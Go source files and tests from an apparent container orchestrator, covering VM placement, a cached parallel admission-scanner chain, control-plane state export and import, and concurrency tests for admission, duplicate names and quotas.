// scratchCandidates returns a pooled Candidate slice sized to the
// current fleet (callers hold c.mu). Concurrent read-lock schedulers
// each take their own; Put it back after Select.
func (c *Cluster) scratchCandidates() *[]scheduler.Candidate {
	if p, ok := c.candScratch.Get().(*[]scheduler.Candidate); ok && cap(*p) >= len(c.candidates) {
		*p = (*p)[:len(c.candidates)]
		return p
	}
	s := make([]scheduler.Candidate, len(c.candidates))
	return &s
}

// commitOn locks n, re-checks feasibility against its live state, and
// commits the placement: VM assignment, capacity and tenant accounting.
// Returns nil when a concurrent placement (or cordon) beat the request
// there — the caller rescans.
func (c *Cluster) commitOn(n *node, spec WorkloadSpec, img *container.Image, req *scheduler.Request, strategy string, score float64) *Workload {
	n.mu.Lock()
	live := n.snapshotLocked(spec.Tenant)
	if c.sched.Feasible(req, &live) != "" {
		n.mu.Unlock()
		return nil
	}
	vm := c.placeVM(n, spec)
	vm.Workloads = append(vm.Workloads, spec.Name)
	n.used = n.used.Add(spec.Resources)
	n.tenants[spec.Tenant]++
	n.mu.Unlock()
	return &Workload{Spec: spec, Image: img, Node: n.name, VMID: vm.ID,
		PlacedAtMs: c.nowMs(), Strategy: strategy, Score: score}
}

// placeVM finds or creates the VM for a workload per its isolation mode
// (callers hold n.mu). When a tenant has several shared VMs on the node
// the lowest VM ID wins — map iteration order must never pick the slot,
// or replayed runs diverge.
func (c *Cluster) placeVM(n *node, spec WorkloadSpec) *VM {
	if spec.Isolation != IsolationHard {
		// Soft isolation: reuse the node's shared VM for this tenant.
		var best *VM
		for _, vm := range n.vms {
			if !vm.Dedicated && vm.Tenant == spec.Tenant && (best == nil || vm.ID < best.ID) {
				best = vm
			}
		}
		if best != nil {
			return best
		}
	}
	vm := &VM{
		ID:        fmt.Sprintf("vm-%03d", c.vmSeq.Add(1)),
		Node:      n.name,
		Tenant:    spec.Tenant,
		Dedicated: spec.Isolation == IsolationHard,
	}
	n.vms[vm.ID] = vm
	if !vm.Dedicated {
		n.sharedVMs++
	}
	return vm
}

// Stop removes a workload, releasing capacity and quota. With the warm
// pool enabled, a workload that was its VM's only occupant parks the VM
// as an idle warm slot instead of tearing it down (see warm.go).
func (c *Cluster) Stop(name string) error {
	w, evs, err := c.stop(name)
	if err != nil {
		return err
	}
	c.auditEvent(AuditEvent{Kind: "workload-stop", Workload: name,
		Tenant: w.Spec.Tenant, Node: w.Node, Allowed: true})
	c.emitWarmEvents(evs)
	return nil
}

// stop is Stop's body, audit and warm-event emission excluded (both
// must happen outside c.mu; the warm events are returned for that).
func (c *Cluster) stop(name string) (*Workload, []WarmEvent, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	w, ok := c.workloads[name]
	if !ok {
		return nil, nil, fmt.Errorf("%w: %s", ErrNotFound, name)
	}
	delete(c.workloads, name)
	c.mutate(Mutation{Kind: MutStop, Name: name})
	c.tenantUsed[w.Spec.Tenant] = c.tenantUsed[w.Spec.Tenant].Sub(w.Spec.Resources)
	var evs []WarmEvent
	if !c.parkOnStopLocked(w, &evs) {
		if n, ok := c.nodes[w.Node]; ok {
			n.mu.Lock()
			n.releaseLocked(name, w.VMID, w.Spec.Resources, w.Spec.Tenant)
			n.mu.Unlock()
		}
	}
	// Whether the slot parked or the VM tore down, the workload's own
	// claimed-slot binding (if this deploy came through the warm path)
	// is retired.
	c.warm.DropClaimed(name)
	return w, evs, nil
}

// Workload returns a running workload by name. The returned struct is
// a snapshot taken under the cluster lock: failover and drain rewrite
// live workload state in place, so handing out interior pointers would
// make every caller's later field read a data race.
func (c *Cluster) Workload(name string) (*Workload, bool) {
	c.mu.RLock()
	defer c.mu.RUnlock()
	w, ok := c.workloads[name]
	if !ok {
		return nil, false
	}
	cp := *w
	return &cp, true
}

// Workloads returns all running workloads sorted by name — snapshots,
// not live pointers (see Workload).
func (c *Cluster) Workloads() []*Workload {
	c.mu.RLock()
	buf := make([]Workload, 0, len(c.workloads))
	for _, w := range c.workloads {
		buf = append(buf, *w)
	}
	c.mu.RUnlock()
	out := make([]*Workload, len(buf))
	for i := range buf {
		out[i] = &buf[i]
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Spec.Name < out[j].Spec.Name })
	return out
}

// WorkloadCount returns the number of running workloads without
// copying the table — cheap enough for per-mutation cadence decisions.
func (c *Cluster) WorkloadCount() int {
	c.mu.RLock()
	defer c.mu.RUnlock()
	return len(c.workloads)
}

// VMs returns all VMs sorted by ID — deep snapshots (placements mutate
// the live VM slot lists under node locks).
func (c *Cluster) VMs() []*VM {
	c.mu.RLock()
	defer c.mu.RUnlock()
	var out []*VM
	for _, n := range c.nodes {
		n.mu.Lock()
		for _, vm := range n.vms {
			cp := *vm
			cp.Workloads = append([]string(nil), vm.Workloads...)
			out = append(out, &cp)
		}
		n.mu.Unlock()
	}
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	return out
}

// TenantUsage returns a tenant's current resource consumption, including
// reservations held by in-flight deploys.
func (c *Cluster) TenantUsage(tenant string) Resources {
	c.mu.RLock()
	defer c.mu.RUnlock()
	return c.tenantUsed[tenant]
}

// Counters reports admitted/rejected deployment totals.
func (c *Cluster) Counters() (admitted, rejected int) {
	return int(c.admitted.Load()), int(c.rejected.Load())
}

// SharedVMTenants returns, per VM, the set of workload-owning tenants —
// used by the PEACH-style isolation review: a non-dedicated VM hosting
// multiple tenants is an isolation risk.
func (c *Cluster) SharedVMTenants() map[string][]string {
	c.mu.RLock()
	defer c.mu.RUnlock()
	out := make(map[string][]string)
	for _, n := range c.nodes {
		n.mu.Lock()
		for _, vm := range n.vms {
			seen := map[string]bool{}
			var tenants []string
			for _, wl := range vm.Workloads {
				if w, ok := c.workloads[wl]; ok && !seen[w.Spec.Tenant] {
					seen[w.Spec.Tenant] = true
					tenants = append(tenants, w.Spec.Tenant)
				}
			}
			sort.Strings(tenants)
			out[vm.ID] = tenants
		}
		n.mu.Unlock()
	}
	return out
}
