package orchestrator

// Admission fan-out: the M13/M14/M16 scanners registered on the cluster are
// independent of one another, so each deployment runs them over a bounded
// worker pool instead of back-to-back. Verdict aggregation is
// deterministic: every controller runs to completion and the error of the
// first-registered failing controller wins, exactly as if the chain had
// run sequentially — the parallelism setting never changes the verdict.
//
// Controllers whose verdict depends only on the image content (the
// scanners; not spec-dependent policy checks) can be registered cacheable:
// a clean verdict is remembered per image digest, so re-deploying an
// already-vetted image across many nodes or tenants skips the scan cost.
// Rejections are never cached — a failing image is re-scanned (and
// re-reported) on every attempt.

import (
	"fmt"

	"genio/internal/container"
	"genio/internal/workpool"
)

// RegisterAdmission appends a named admission controller; controllers run
// for every deployment and the first error in registration order rejects
// it.
func (c *Cluster) RegisterAdmission(name string, fn AdmissionFunc) {
	c.admMu.Lock()
	defer c.admMu.Unlock()
	c.admission = append(c.admission, namedAdmission{name: name, fn: fn})
}

// RegisterAdmissionCached is RegisterAdmission for controllers whose
// verdict depends only on the image content: clean verdicts are cached by
// image digest and the controller is skipped on re-deployments of the same
// image. Controllers that inspect the spec (tenant, isolation, resources)
// must use RegisterAdmission instead.
func (c *Cluster) RegisterAdmissionCached(name string, fn AdmissionFunc) {
	c.admMu.Lock()
	defer c.admMu.Unlock()
	c.admission = append(c.admission, namedAdmission{name: name, fn: fn, cacheable: true})
}

// runAdmission fans the registered admission chain out over the worker
// pool and aggregates the verdict deterministically.
func (c *Cluster) runAdmission(spec WorkloadSpec, img *container.Image) error {
	c.admMu.RLock()
	chain := append([]namedAdmission(nil), c.admission...)
	c.admMu.RUnlock()
	if len(chain) == 0 {
		return nil
	}

	// One digest computation serves every cacheable controller.
	digest := ""
	if !c.AdmissionCacheDisabled {
		for _, a := range chain {
			if a.cacheable {
				digest = img.Digest()
				break
			}
		}
	}

	// Resolve cache hits up front so the warm path — every controller
	// already satisfied for this digest — never pays for the pool.
	keys := make([]string, len(chain))
	toRun := make([]int, 0, len(chain))
	for i, a := range chain {
		if a.cacheable && digest != "" {
			keys[i] = a.name + "\x00" + digest
			if _, ok := c.admCache.Load(keys[i]); ok {
				continue
			}
		}
		toRun = append(toRun, i)
	}
	if len(toRun) == 0 {
		return nil
	}

	errs := make([]error, len(chain))
	workpool.Run(len(toRun), c.AdmissionParallelism, func(j int) {
		i := toRun[j]
		if err := chain[i].fn(spec, img); err != nil {
			errs[i] = err
			return
		}
		if keys[i] != "" {
			c.admCache.Store(keys[i], struct{}{})
		}
	})

	for i, err := range errs {
		if err != nil {
			return fmt.Errorf("%w by %s: %v", ErrDenied, chain[i].name, err)
		}
	}
	return nil
}
