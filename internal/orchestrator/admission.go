package orchestrator

// Admission fan-out: the M13/M14/M16 scanners registered on the cluster are
// independent of one another, so each deployment runs them over a bounded
// worker pool instead of back-to-back. Verdict aggregation is
// deterministic: every controller runs to completion and the error of the
// first-registered failing controller wins, exactly as if the chain had
// run sequentially — the parallelism setting never changes the verdict.
// The aggregate is a typed *AdmissionError carrying every controller's
// verdict, so callers can render the full table instead of one string.
//
// Controllers whose verdict depends only on the image content (the
// scanners; not spec-dependent policy checks) can be registered cacheable:
// a clean verdict is remembered per image digest, so re-deploying an
// already-vetted image across many nodes or tenants skips the scan cost.
// Rejections are never cached — a failing image is re-scanned (and
// re-reported) on every attempt.
//
// Cancellation: the deployment context threads through the pool and into
// every controller. Once it is done, no further controller is dispatched,
// in-flight controllers are expected to return promptly (the platform
// scanners poll the context between files), the whole run reports a
// *CancelledError, and — crucially — no clean verdict observed during a
// cancelled run is committed to the cache: a cancelled deployment leaves
// the cache exactly as it found it.

import (
	"context"

	"genio/internal/container"
	"genio/internal/workpool"
)

// AdmissionCheck is the context-aware admission controller contract
// (API v2): it inspects a deployment before scheduling and returns an
// error to reject it. Controllers must honour ctx — return promptly once
// it is done — because cancelled deployments wait for their in-flight
// controllers.
type AdmissionCheck func(ctx context.Context, spec WorkloadSpec, img *container.Image) error

// RegisterAdmission appends a named admission controller; controllers run
// for every deployment and the first error in registration order rejects
// it. Kept as a thin wrapper over RegisterAdmissionCtx for controllers
// that do not need cancellation.
func (c *Cluster) RegisterAdmission(name string, fn AdmissionFunc) {
	c.RegisterAdmissionCtx(name, func(_ context.Context, spec WorkloadSpec, img *container.Image) error {
		return fn(spec, img)
	})
}

// RegisterAdmissionCtx appends a named context-aware admission controller.
func (c *Cluster) RegisterAdmissionCtx(name string, fn AdmissionCheck) {
	c.admMu.Lock()
	defer c.admMu.Unlock()
	c.admission = append(c.admission, namedAdmission{name: name, fn: fn})
}

// RegisterAdmissionCached is RegisterAdmission for controllers whose
// verdict depends only on the image content: clean verdicts are cached by
// image digest and the controller is skipped on re-deployments of the same
// image. Controllers that inspect the spec (tenant, isolation, resources)
// must use RegisterAdmission instead.
func (c *Cluster) RegisterAdmissionCached(name string, fn AdmissionFunc) {
	c.RegisterAdmissionCachedCtx(name, func(_ context.Context, spec WorkloadSpec, img *container.Image) error {
		return fn(spec, img)
	})
}

// RegisterAdmissionCachedCtx is RegisterAdmissionCtx with the per-digest
// clean-verdict cache.
func (c *Cluster) RegisterAdmissionCachedCtx(name string, fn AdmissionCheck) {
	c.admMu.Lock()
	defer c.admMu.Unlock()
	c.admission = append(c.admission, namedAdmission{name: name, fn: fn, cacheable: true})
}

// AdmissionCacheSize reports how many clean-verdict cache entries are
// held. The leak-regression tests use it to prove cancelled deployments
// commit nothing.
func (c *Cluster) AdmissionCacheSize() int {
	n := 0
	c.admCache.Range(func(any, any) bool { n++; return true })
	return n
}

// runAdmission fans the registered admission chain out over the worker
// pool and aggregates the verdict deterministically. A done context
// aborts the run with a *CancelledError and commits nothing to the
// verdict cache.
//
// digest is the deploy call's single Image.Digest computation (see
// Cluster.deployDigest) — shared with the warm-slot claim so one deploy
// never hashes the image twice. It keys the clean-verdict cache; empty
// (or with the cache administratively disabled) every cacheable
// controller runs cold.
func (c *Cluster) runAdmission(ctx context.Context, spec WorkloadSpec, img *container.Image, digest string) error {
	c.admMu.RLock()
	chain := append([]namedAdmission(nil), c.admission...)
	c.admMu.RUnlock()
	if len(chain) == 0 {
		return ctxErr(ctx, spec.Name, "admission")
	}

	// The warm pool may have computed a digest the verdict cache is not
	// allowed to use (benchmarks measuring the cold scanner path).
	if c.AdmissionCacheDisabled {
		digest = ""
	}

	// Resolve cache hits up front so the warm path — every controller
	// already satisfied for this digest — never pays for the pool.
	verdicts := make([]ScannerVerdict, len(chain))
	keys := make([]string, len(chain))
	toRun := make([]int, 0, len(chain))
	for i, a := range chain {
		verdicts[i] = ScannerVerdict{Scanner: a.name, Passed: true}
		if a.cacheable && digest != "" {
			keys[i] = a.name + "\x00" + digest
			if _, ok := c.admCache.Load(keys[i]); ok {
				verdicts[i].Cached = true
				continue
			}
		}
		toRun = append(toRun, i)
	}
	if len(toRun) == 0 {
		return ctxErr(ctx, spec.Name, "admission")
	}

	errs := make([]error, len(chain))
	_ = workpool.RunCtx(ctx, len(toRun), c.AdmissionParallelism, func(j int) {
		i := toRun[j]
		if keys[i] != "" {
			// Cacheable scan: collapse concurrent identical runs.
			errs[i] = c.runSharedScan(ctx, keys[i], chain[i], spec, img)
		} else {
			errs[i] = chain[i].fn(ctx, spec, img)
		}
	})

	// Cancellation trumps any partial verdict, and nothing from a
	// cancelled run may warm the cache — the deployment's cache slot is
	// released wholesale.
	if err := ctxErr(ctx, spec.Name, "admission"); err != nil {
		return err
	}

	rejected := false
	for _, i := range toRun {
		if err := errs[i]; err != nil {
			verdicts[i].Passed = false
			verdicts[i].Detail = err.Error()
			rejected = true
		} else if keys[i] != "" {
			// LoadOrStore: a sibling deploy sharing this scan's verdict may
			// have committed first; only the first commit records the
			// mutation, keeping the durable log free of duplicates.
			if _, loaded := c.admCache.LoadOrStore(keys[i], struct{}{}); !loaded {
				c.mutate(Mutation{Kind: MutVerdict, Key: keys[i]})
			}
		}
	}
	if rejected {
		return &AdmissionError{Workload: spec.Name, Tenant: spec.Tenant, Verdicts: verdicts}
	}
	return nil
}

// admFlightCall is one in-flight cacheable scan: the leader runs the
// controller and publishes its verdict; followers for the same
// (controller, digest) key wait on done instead of re-scanning.
type admFlightCall struct {
	done chan struct{}
	// err is the leader's verdict — valid only when !abandoned. Sharing
	// a rejection is sound for cacheable controllers: their verdict
	// depends only on the image content, which is identical for every
	// waiter keyed by the same digest.
	err error
	// abandoned marks a run whose context died mid-scan: the verdict is
	// unusable (and, like any cancelled run, commits nothing), so a
	// follower retakes leadership instead of adopting it.
	abandoned bool
}

// runSharedScan runs one cacheable controller with concurrent-identical
// collapse: the first deploy of a digest leads the scan, simultaneous
// deploys of the same digest wait on the leader's verdict. A follower
// whose own context dies stops waiting (its deployment reports the
// usual *CancelledError via the post-pool context check); a leader
// whose context dies publishes an abandoned call, and one waiting
// follower retakes leadership so the scan still completes.
func (c *Cluster) runSharedScan(ctx context.Context, key string, a namedAdmission, spec WorkloadSpec, img *container.Image) error {
	for {
		if err := ctx.Err(); err != nil {
			return err
		}
		// A leader may have committed the verdict while we waited.
		if _, ok := c.admCache.Load(key); ok {
			return nil
		}
		c.admFlightMu.Lock()
		if call, ok := c.admFlight[key]; ok {
			c.admFlightMu.Unlock()
			select {
			case <-call.done:
			case <-ctx.Done():
				return ctx.Err()
			}
			if !call.abandoned {
				return call.err
			}
			continue
		}
		call := &admFlightCall{done: make(chan struct{})}
		c.admFlight[key] = call
		c.admFlightMu.Unlock()
		err := a.fn(ctx, spec, img)
		call.err = err
		call.abandoned = ctx.Err() != nil
		c.admFlightMu.Lock()
		delete(c.admFlight, key)
		c.admFlightMu.Unlock()
		close(call.done)
		return err
	}
}

// ctxErr maps a done context to the deployment's typed cancellation
// error; nil while the context is live.
func ctxErr(ctx context.Context, workload, stage string) error {
	if err := ctx.Err(); err != nil {
		return &CancelledError{Workload: workload, Stage: stage, Err: err}
	}
	return nil
}
