package orchestrator

// Control-plane state capture: the durability seam between the cluster
// and the persistence layer (internal/persist).
//
// Two complementary surfaces live here:
//
//   - Mutations: a typed record per durable state change (node
//     membership, cordon flips, placements, stops, quotas, clean
//     admission verdicts), emitted through the MutationSink the platform
//     installs. Each mutation kind mirrors one of the audit-event kinds
//     the spine already publishes, but unlike the audit sink — which is
//     called outside cluster locks and may observe state that a
//     concurrent operation has already rewritten — the mutation sink is
//     invoked INSIDE the lock that applied the change, so the record
//     sequence is exactly the serialization order of the state machine.
//     Sinks must therefore be O(1) and non-blocking (buffer and return),
//     and must never call back into the Cluster.
//
//   - Export/Import: ClusterState is the compact, replayable snapshot of
//     everything a restarted control plane needs — node membership and
//     cordon flags, the workload table, tenant quotas, and the clean
//     admission-verdict keys. All derived accounting (per-node usage, VM
//     assignments, shared-VM and tenant counters, tenant quota usage,
//     the VM id sequence) is reconstructed from the workload table on
//     import, so a snapshot can never disagree with its own bookkeeping.

import (
	"sort"
	"strconv"
	"strings"

	"genio/internal/container"
)

// Mutation kinds, keyed to the audit-event vocabulary.
const (
	// MutNodeJoin: a node joined (Node, Capacity).
	MutNodeJoin = "node-join"
	// MutNodeRemove: a node left the fleet — FailNode (Node).
	MutNodeRemove = "node-remove"
	// MutNodeCordon: a cordon flag transition, absolute value (Node,
	// Cordoned). Covers Cordon/Uncordon, drain's cordon, and drain
	// rollback/completion.
	MutNodeCordon = "node-cordon"
	// MutPlace: a workload was placed or moved (Workload snapshot).
	// Replay is an upsert by name, so a move needs no paired remove.
	MutPlace = "place"
	// MutStop: a workload left the cluster — Stop or eviction (Name).
	MutStop = "workload-stop"
	// MutQuota: a tenant quota was set, absolute value (Tenant, Quota).
	MutQuota = "quota"
	// MutVerdict: a clean admission verdict was cached (Key).
	MutVerdict = "admission-verdict"
)

// Mutation is one durable control-plane state change. Exactly the
// fields relevant to its Kind are set; replay applies each kind as an
// absolute, last-wins operation (upsert/delete/set), so re-applying a
// suffix of the history onto a snapshot that already contains part of
// it converges to the same state.
type Mutation struct {
	Kind string `json:"kind"`
	// Node names the node for the membership/cordon kinds.
	Node     string    `json:"node,omitempty"`
	Capacity Resources `json:"capacity,omitempty"`
	Cordoned bool      `json:"cordoned,omitempty"`
	// Workload is the commit-time snapshot for MutPlace (Image excluded).
	Workload *Workload `json:"workload,omitempty"`
	// VMSeq is the VM id sequence at MutPlace emission time. Replay takes
	// the maximum across all place records, so the counter survives even
	// when the workload that advanced it was later stopped — otherwise a
	// recovered cluster could re-mint a VM id the pre-crash run had
	// already spent.
	VMSeq int64 `json:"vmSeq,omitempty"`
	// Name is the workload name for MutStop.
	Name string `json:"name,omitempty"`
	// Tenant/Quota describe MutQuota.
	Tenant string    `json:"tenant,omitempty"`
	Quota  Resources `json:"quota,omitempty"`
	// Key is the admission verdict-cache key for MutVerdict.
	Key string `json:"key,omitempty"`
}

// MutationSink receives one record per durable control-plane state
// change. Unlike AuditSink, the sink runs INSIDE cluster/node locks —
// implementations must buffer and return immediately, never block, and
// never call back into the Cluster.
type MutationSink func(Mutation)

// SetMutationSink installs the mutation sink (nil disables). Install it
// before traffic (and after any state import) so the durable log and
// the live state never diverge.
func (c *Cluster) SetMutationSink(fn MutationSink) {
	if fn == nil {
		c.mutations.Store(nil)
		return
	}
	c.mutations.Store(&fn)
}

// mutate forwards one mutation to the sink; a no-op without one.
// Callers hold the lock that applied the change.
func (c *Cluster) mutate(m Mutation) {
	if fn := c.mutations.Load(); fn != nil {
		(*fn)(m)
	}
}

// mutatePlace emits a MutPlace for w — a fresh value snapshot, Image
// excluded, so the sink may retain and marshal it asynchronously while
// the live record keeps changing. Callers hold c.mu.
func (c *Cluster) mutatePlace(w *Workload) {
	if c.mutations.Load() == nil {
		return
	}
	cp := *w
	cp.Image = nil
	c.mutate(Mutation{Kind: MutPlace, Workload: &cp, VMSeq: c.vmSeq.Load()})
}

// NodeState is one node's durable identity: membership, capacity, and
// the cordon flag. Placement accounting is derived from the workload
// table on import.
type NodeState struct {
	Name     string    `json:"name"`
	Capacity Resources `json:"capacity"`
	Cordoned bool      `json:"cordoned,omitempty"`
}

// ClusterState is the cluster's replayable control-plane state: what a
// snapshot stores and what a restarted cluster imports. Slices are
// name-sorted so marshaled snapshots are byte-deterministic.
type ClusterState struct {
	Nodes     []NodeState          `json:"nodes,omitempty"`
	Workloads []Workload           `json:"workloads,omitempty"`
	Quotas    map[string]Resources `json:"quotas,omitempty"`
	// Verdicts are the clean admission-verdict cache keys
	// ("controller\x00imageDigest").
	Verdicts []string `json:"verdicts,omitempty"`
	// VMSeq is the VM id sequence floor; import additionally derives the
	// maximum from the workload VM ids, so recovered placements never
	// collide with freshly minted VMs.
	VMSeq int64 `json:"vmSeq,omitempty"`
}

// ExportState captures the cluster's durable state under the read lock:
// a point-in-time snapshot that can never contain a half-applied
// placement (commits hold the write lock). Mutations that land while
// the snapshot is being persisted are covered by the mutation log —
// replaying them onto this state is convergent.
func (c *Cluster) ExportState() ClusterState {
	c.mu.RLock()
	st := ClusterState{VMSeq: c.vmSeq.Load()}
	for _, n := range c.candidates { // name-sorted by construction
		n.mu.Lock()
		st.Nodes = append(st.Nodes, NodeState{Name: n.name, Capacity: n.capacity, Cordoned: n.cordoned})
		n.mu.Unlock()
	}
	st.Workloads = make([]Workload, 0, len(c.workloads))
	for _, w := range c.workloads {
		cp := *w
		cp.Image = nil
		st.Workloads = append(st.Workloads, cp)
	}
	if len(c.quotas) > 0 {
		st.Quotas = make(map[string]Resources, len(c.quotas))
		for t, q := range c.quotas {
			st.Quotas[t] = q
		}
	}
	c.mu.RUnlock()
	sort.Slice(st.Workloads, func(i, j int) bool {
		return st.Workloads[i].Spec.Name < st.Workloads[j].Spec.Name
	})
	st.Verdicts = c.VerdictKeys()
	return st
}

// ImportState replaces the cluster's control-plane state with st,
// rebuilding every piece of derived accounting — per-node usage, VM
// assignments (one VM per distinct VM id, shared-VM and tenant
// counters), tenant quota usage, and the VM id sequence — from the
// workload table. resolve, when non-nil, re-attaches image objects by
// ref (best effort: a nil result leaves Workload.Image unset, which
// every read and reschedule path tolerates). Call before traffic
// starts; a workload whose node is absent from st is dropped rather
// than invented a host.
func (c *Cluster) ImportState(st ClusterState, resolve func(ref string) *container.Image) {
	c.mu.Lock()
	defer c.mu.Unlock()
	// Warm slots are deliberately not part of ClusterState: a parked VM
	// does not survive a control-plane restart, so recovery starts cold
	// and the pool repopulates from live stop traffic.
	c.warm.Reset()
	c.nodes = make(map[string]*node, len(st.Nodes))
	for _, ns := range st.Nodes {
		c.nodes[ns.Name] = &node{name: ns.Name, capacity: ns.Capacity, cordoned: ns.Cordoned,
			vms: make(map[string]*VM), tenants: make(map[string]int)}
	}
	c.workloads = make(map[string]*Workload, len(st.Workloads))
	c.tenantUsed = make(map[string]Resources)
	maxVM := st.VMSeq
	for i := range st.Workloads {
		w := st.Workloads[i]
		n, ok := c.nodes[w.Node]
		if !ok {
			continue
		}
		if w.Image == nil && resolve != nil {
			w.Image = resolve(w.Spec.ImageRef)
		}
		c.workloads[w.Spec.Name] = &w
		c.tenantUsed[w.Spec.Tenant] = c.tenantUsed[w.Spec.Tenant].Add(w.Spec.Resources)
		n.used = n.used.Add(w.Spec.Resources)
		n.tenants[w.Spec.Tenant]++
		vm := n.vms[w.VMID]
		if vm == nil {
			vm = &VM{ID: w.VMID, Node: w.Node, Tenant: w.Spec.Tenant,
				Dedicated: w.Spec.Isolation == IsolationHard}
			n.vms[w.VMID] = vm
			if !vm.Dedicated {
				n.sharedVMs++
			}
		}
		vm.Workloads = append(vm.Workloads, w.Spec.Name)
		if seq, ok := parseVMSeq(w.VMID); ok && seq > maxVM {
			maxVM = seq
		}
	}
	for _, n := range c.nodes {
		for _, vm := range n.vms {
			sort.Strings(vm.Workloads)
		}
	}
	c.quotas = make(map[string]Resources, len(st.Quotas))
	for t, q := range st.Quotas {
		c.quotas[t] = q
	}
	c.vmSeq.Store(maxVM)
	c.rebuildCandidatesLocked()
	for _, k := range st.Verdicts {
		c.admCache.Store(k, struct{}{})
	}
}

// HasNode reports whether a node of that name is a cluster member. The
// platform uses it to keep idempotent re-provisioning (demo fixtures
// re-seeded over a recovered data dir) from resetting a node that
// recovery already rebuilt with its placements.
func (c *Cluster) HasNode(name string) bool {
	c.mu.RLock()
	defer c.mu.RUnlock()
	_, ok := c.nodes[name]
	return ok
}

// VerdictKeys returns the clean admission-verdict cache keys, sorted.
func (c *Cluster) VerdictKeys() []string {
	var keys []string
	c.admCache.Range(func(k, _ any) bool {
		if s, ok := k.(string); ok {
			keys = append(keys, s)
		}
		return true
	})
	sort.Strings(keys)
	return keys
}

// parseVMSeq extracts the sequence number from a "vm-NNN" id.
func parseVMSeq(id string) (int64, bool) {
	s, ok := strings.CutPrefix(id, "vm-")
	if !ok {
		return 0, false
	}
	n, err := strconv.ParseInt(s, 10, 64)
	if err != nil {
		return 0, false
	}
	return n, true
}
