package orchestrator

import (
	"errors"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"genio/internal/container"
)

// TestAdmissionVerdictIndependentOfParallelism pins the determinism
// contract: whatever the pool size, the verdict is the error of the
// first-registered failing controller.
func TestAdmissionVerdictIndependentOfParallelism(t *testing.T) {
	for _, parallelism := range []int{0, 1, 2, 8} {
		c, _ := testCluster(t, Settings{})
		c.AdmissionParallelism = parallelism
		for i := 0; i < 6; i++ {
			name := fmt.Sprintf("c%d", i)
			fail := i == 2 || i == 4
			c.RegisterAdmission(name, func(WorkloadSpec, *container.Image) error {
				if fail {
					return fmt.Errorf("%s says no", name)
				}
				return nil
			})
		}
		_, err := c.Deploy("ops", spec("x", "t", "acme/analytics:2.0.1", IsolationSoft))
		if !errors.Is(err, ErrDenied) {
			t.Fatalf("parallelism %d: err = %v, want ErrDenied", parallelism, err)
		}
		if !strings.Contains(err.Error(), "by c2") {
			t.Fatalf("parallelism %d: verdict should come from c2, got %v", parallelism, err)
		}
	}
}

// TestAdmissionCacheSkipsCleanRescan checks that a cacheable controller
// runs once per image digest, not once per deployment.
func TestAdmissionCacheSkipsCleanRescan(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	var runs atomic.Int64
	c.RegisterAdmissionCached("counter", func(WorkloadSpec, *container.Image) error {
		runs.Add(1)
		return nil
	})
	for i := 0; i < 3; i++ {
		name := fmt.Sprintf("w%d", i)
		if _, err := c.Deploy("ops", spec(name, "acme", "acme/analytics:2.0.1", IsolationSoft)); err != nil {
			t.Fatalf("deploy %s: %v", name, err)
		}
	}
	if got := runs.Load(); got != 1 {
		t.Fatalf("cacheable controller ran %d times for one image, want 1", got)
	}
	// A different image has a different digest and must be scanned.
	if _, err := c.Deploy("ops", spec("other", "acme", "acme/iot-gateway:1.4.2", IsolationSoft)); err != nil {
		t.Fatalf("deploy other image: %v", err)
	}
	if got := runs.Load(); got != 2 {
		t.Fatalf("controller ran %d times across two images, want 2", got)
	}
}

// TestAdmissionCacheNeverCachesRejections checks a failing image is
// re-scanned (and re-rejected) on every attempt.
func TestAdmissionCacheNeverCachesRejections(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	var runs atomic.Int64
	c.RegisterAdmissionCached("reject-all", func(WorkloadSpec, *container.Image) error {
		runs.Add(1)
		return errors.New("nope")
	})
	for i := 0; i < 2; i++ {
		if _, err := c.Deploy("ops", spec(fmt.Sprintf("w%d", i), "acme", "acme/analytics:2.0.1", IsolationSoft)); !errors.Is(err, ErrDenied) {
			t.Fatalf("attempt %d: err = %v, want ErrDenied", i, err)
		}
	}
	if got := runs.Load(); got != 2 {
		t.Fatalf("failing controller ran %d times, want 2 (rejections are never cached)", got)
	}
}

// TestAdmissionCacheDisabled checks the benchmark knob forces cold scans.
func TestAdmissionCacheDisabled(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	c.AdmissionCacheDisabled = true
	var runs atomic.Int64
	c.RegisterAdmissionCached("counter", func(WorkloadSpec, *container.Image) error {
		runs.Add(1)
		return nil
	})
	for i := 0; i < 2; i++ {
		if _, err := c.Deploy("ops", spec(fmt.Sprintf("w%d", i), "acme", "acme/analytics:2.0.1", IsolationSoft)); err != nil {
			t.Fatal(err)
		}
	}
	if got := runs.Load(); got != 2 {
		t.Fatalf("controller ran %d times with cache disabled, want 2", got)
	}
}

// TestConcurrentDuplicateNameOneWinner races N deploys of the same
// workload name; exactly one may win.
func TestConcurrentDuplicateNameOneWinner(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	const racers = 16
	var wg sync.WaitGroup
	var wins, dups atomic.Int64
	for i := 0; i < racers; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, err := c.Deploy("ops", spec("contested", "acme", "acme/analytics:2.0.1", IsolationSoft))
			switch {
			case err == nil:
				wins.Add(1)
			case errors.Is(err, ErrDuplicateName):
				dups.Add(1)
			default:
				t.Errorf("unexpected error: %v", err)
			}
		}()
	}
	wg.Wait()
	if wins.Load() != 1 || dups.Load() != racers-1 {
		t.Fatalf("wins=%d dups=%d, want 1/%d", wins.Load(), dups.Load(), racers-1)
	}
	admitted, rejected := c.Counters()
	if admitted != 1 || rejected != racers-1 {
		t.Fatalf("counters = %d/%d, want 1/%d", admitted, rejected, racers-1)
	}
}

// TestConcurrentQuotaNeverOversubscribed races more deploys than the
// tenant quota allows; the up-front reservation must make the admitted
// count exact.
func TestConcurrentQuotaNeverOversubscribed(t *testing.T) {
	c, _ := testCluster(t, Settings{})
	c.SetQuota("acme", Resources{CPUMilli: 2500, MemoryMB: 2560}) // fits exactly 5 of spec()'s 500/512
	const racers = 12
	var wg sync.WaitGroup
	var wins, quota atomic.Int64
	for i := 0; i < racers; i++ {
		i := i
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, err := c.Deploy("ops", spec(fmt.Sprintf("q%d", i), "acme", "acme/analytics:2.0.1", IsolationSoft))
			switch {
			case err == nil:
				wins.Add(1)
			case errors.Is(err, ErrQuotaExceeded):
